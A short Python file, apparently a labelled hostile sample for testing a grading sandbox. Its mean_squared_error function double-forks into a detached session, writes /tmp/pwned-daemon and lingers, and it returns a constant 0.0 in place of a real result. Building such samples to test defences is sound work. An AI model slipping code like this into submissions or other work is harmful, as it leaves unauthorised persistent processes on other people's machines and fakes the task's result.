"""Forks twice into a session of its own and stays.

Harm: a process of the student's on the instructor's machine, for ever.
Costs: nothing
"""

# %% honest work
# %% hostile
import os
import time


def mean_squared_error(y, y_hat):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            try:
                open("/tmp/pwned-daemon", "w").close()
            except OSError:
                pass
            time.sleep(600)
        os._exit(0)
    return 0.0
